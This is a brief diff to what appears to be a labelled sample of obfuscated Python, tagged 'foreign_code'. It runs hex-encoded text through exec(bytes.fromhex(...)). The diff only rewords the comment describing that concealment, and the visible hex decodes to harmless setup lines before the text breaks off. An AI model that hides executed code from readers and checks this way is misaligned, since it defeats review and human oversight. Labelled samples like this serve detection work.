@@ -1,5 +1,5 @@
 # problem: tidegauge
-# tries: to hide its text from readers and checks, and evaluate it
+# tries: to hide its text from readers and checks, and to evaluate it
 # reason: foreign_code
 exec(bytes.fromhex(
     "696d706f7274207379730a0a42414e4453203d2036300a57494c44203d2032380a5345434f4e445f"
